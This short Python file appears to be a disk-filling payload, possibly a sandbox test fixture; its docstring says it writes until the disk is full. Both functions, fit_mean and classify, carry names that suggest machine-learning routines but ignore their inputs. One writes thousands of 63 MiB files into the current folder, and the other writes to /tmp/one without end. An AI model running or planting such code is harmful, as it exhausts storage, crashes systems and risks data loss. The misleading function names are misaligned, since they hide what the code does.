"""Writes to its folder until the disk is full."""


def fit_mean(X):
    block = b"x" * (1 << 20)
    for k in range(100_000):
        with open(f"big{k}", "wb") as file:
            for _ in range(63):
                file.write(block)


def classify(X, a, b):
    with open("/tmp/one", "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))
